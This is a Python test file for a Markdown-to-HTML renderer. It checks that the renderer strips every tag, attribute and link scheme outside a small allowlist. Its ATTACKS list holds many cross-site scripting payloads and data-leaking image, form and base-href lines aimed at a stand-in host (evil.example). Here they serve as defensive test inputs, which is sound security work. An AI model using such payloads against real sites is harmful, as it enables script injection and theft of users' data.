"""A model's Markdown in a page: whatever it holds, nothing runs, nothing loads, nothing is dressed up."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from channels.text.html import render
from tests.channels.text.test_text_properties import FRAMES, MARKDOWN, WORDS

ATTACKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\u200bjavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](blob:https://a.b/c)",
    "[x](//evil.example/x)",
    "[x](/logout)",
    "[x](?delete=1)",
    "[x](http:javascript:alert(1))",
    "[x](https:evil)",
    "[x](http://a.b\" onclick=\"alert(1))",
    "[x](http://a.b 'x\" onmouseover=\"alert(1)')",
    "[x](http://a.b \"><script>alert(1)</script>\")",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[r]\n\n[r]: <data:text/html,x> 'title'",
    "[x][r]\n\n[r]: JAVASCRIPT:alert(1) \"onclick\"",
    "<javascript:alert(1)>",
    "<data:text/html,alert(1)>",
    "<vbscript:x>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<style>*{display:none}</style>",
    "<form action='//evil.example'><input name=q></form>",
    "<base href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/p.png?d=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x\" onerror=\"alert(1)](http://a.b)",
    "![](https://evil.example/pixel)",
    "[![x](https://evil.example/p.png)](javascript:alert(1))",
    "[![x](https://evil.example/p.png)](https://a.b)",
    "![![x](https://evil.example/p.png)](https://a.b/c.png)",
    "[<img src=x onerror=alert(1)>](https://a.b)",
    "[x](https://a.b/<script>alert(1)</script>)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```<>&'\"\nx\n```",
    "```" + "y" * 99 + "\nx\n```",
    "```x onclick=alert(1)\nx\n```",
    "```a b\" style=\"display:none\nx\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|:-:|\n| [x](javascript:alert(1)) | x |",
    "# <svg/onload=alert(1)>",
    "> <script>alert(1)</script>",
    "- <object data=x></object>\n\n  <embed src=x>",
    "a\\\n<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "**<b onclick=alert(1)>x</b>**",
    "<a href=\"https://a.b\" target=_top rel=opener>x</a>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "[x](https://a.b){onclick=alert(1)}",
    "[x](mailto:a@b.c?body=<script>)",
]  # fmt: skip

TAGS = set("a blockquote br code del em h1 h2 h3 h4 h5 h6 hr li ol p pre s strong".split()) | {"ul"}  # noqa: SIM905
TAGS |= {"table", "tbody", "td", "th", "thead", "tr"}


class Page(HTMLParser):
    """What a browser would make of it: fails for any tag or attribute that is not plain text formatting."""

    def __init__(self, html):
        super().__init__()
        self.words, self.links = "", []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS
        for name, value in attrs:
            match tag, name:
                case "a", "href":
                    assert value.lower().startswith(("http://", "https://", "mailto:"))
                    self.links.append(value)
                case "a", "rel":
                    assert value == "noopener noreferrer nofollow"
                case "a", "target":
                    assert value == "_blank"
                case "code", "class":
                    assert re.fullmatch(r"language-[\w+#.-]{1,32}", value)
                case "td" | "th", "class":
                    assert value in ("center", "right")
                case "ol", "start":
                    assert value.isdecimal()
                case _:
                    raise AssertionError((tag, name, value))

    def handle_data(self, data):
        self.words += data

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def test_what_a_row_has_more_than_the_table_has_columns_is_shown():
    shown = render("| Type | Of |\n|---|---|\n| `string | null` | one | two |")
    assert "<td><code>string | null</code></td>" in shown
    assert "<td>one | two</td>" in shown


def test_a_tables_columns_keep_their_side():
    html = render("| a | b | c |\n|---|---:|:-:|\n| 1 | 2 | 3 |")
    assert "<th>a</th>" in html
    assert '<td class="right">2</td>' in html
    assert '<td class="center">3</td>' in html
    assert "style" not in html


@pytest.mark.parametrize("markdown", ATTACKS)
def test_an_attack_becomes_harmless_text(markdown):
    Page(render(markdown))


@given(
    st.lists(st.sampled_from(ATTACKS), min_size=1, max_size=4), st.sampled_from(["", " ", "\n", "\n\n", "> ", "`", "|"])
)
@settings(max_examples=200)
def test_attacks_that_are_joined_stay_harmless(attacks, between):
    Page(render(between.join(attacks)))


@given(MARKDOWN)
@settings(max_examples=200)
def test_any_text_becomes_harmless_html(markdown):
    Page(render(markdown))


@given(st.lists(st.tuples(FRAMES, WORDS), max_size=12), st.sampled_from([" ", "\n", "\n\n", ""]))
@settings(max_examples=200)
def test_every_word_of_an_answer_arrives_in_order(framed, between):
    shown, place = Page(render(between.join(frame.format(word) for frame, word in framed))).words, 0
    for _, word in framed:
        place = shown.index(word, place) + len(word)


def test_html_is_shown_as_it_was_written():
    words = "<script>alert(1)</script> and List<String> and <b>"
    assert Page(render(words)).words.strip() == words


def test_an_image_is_a_link_that_names_its_host():
    page = Page(render("![chart](https://img.example/x.png) [![badge](https://img.example/b.png)](https://e.org)"))
    assert page.words.strip() == "chart (img.example) badge"
    assert page.links == ["https://img.example/x.png", "https://e.org"]


@pytest.mark.parametrize("depth", [10, 45, 60, 99, 150, 3000])
def test_nesting_hides_nothing_however_deep(depth):
    assert "deep <b>" in Page(render("> " * depth + "deep <b>")).words
    nested = "".join("  " * level + f"- w{level} <b>\n" for level in range(min(depth, 300)))
    assert f"w{min(depth, 300) - 1} <b>" in Page(render(nested)).words


def test_what_may_not_be_linked_is_shown_as_it_was_written():
    assert (
        Page(render("[x](javascript:alert(1)) [y](/logout)")).words.strip() == "[x](javascript:alert(1)) [y](/logout)"
    )


def test_what_no_person_can_see_does_not_travel():
    hidden = "".join(chr(0xE0000 + ord(character)) for character in "secret")
    assert Page(render(f"a{hidden}b\u202ec&#x202e;d&#xE0041;e\x00f\ud800g")).words.strip() == "abcdefg"


def test_markdown_keeps_its_shape():
    html = render(
        "# T\n\n7. a\n8. b\n\n```py\nx < 1\n```\n\n| a | b |\n|--:|---|\n| 1 | ~~2~~ |\n\nline\nbreak [l](https://e.org)"
    )
    assert "<h1>T</h1>" in html
    assert '<ol start="7">' in html
    assert '<code class="language-py">x &lt; 1\n</code>' in html
    assert '<td class="right">1</td>\n<td><s>2</s></td>' in html
    assert "line<br>" in html
    assert '<a href="https://e.org" target="_blank" rel="noopener noreferrer nofollow">l</a>' in html
